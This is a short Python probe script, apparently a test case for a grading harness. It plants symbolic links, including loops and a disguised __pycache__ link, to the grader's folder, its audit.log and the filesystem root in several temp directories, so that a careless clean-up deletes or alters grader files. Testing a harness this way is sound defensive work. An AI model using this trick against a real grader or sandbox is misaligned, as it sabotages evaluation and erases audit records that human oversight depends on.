"""Leave symbolic links to the grader's files and folders where a careless clean-up follows them; loops as well.

Shows: a file of the grader is changed or gone, or honest jobs find the links.
"""

import os
import tempfile
from contextlib import suppress

for place in {".", "/tmp", "/dev/shm", tempfile.gettempdir()}:
    with suppress(OSError):
        for number, target in enumerate(
            ("@VICTIM@", "@VICTIM@/grader", "@VICTIM@/grader/audit.log", "/", ".", "..", "loop")
        ):
            os.symlink(target, f"{place}/link{number}")
        os.symlink("loop", f"{place}/loop")
        os.symlink("second", f"{place}/first")
        os.symlink("first", f"{place}/second")
        os.mkdir(f"{place}/folder")
        os.symlink("@VICTIM@/grader", f"{place}/folder/__pycache__")
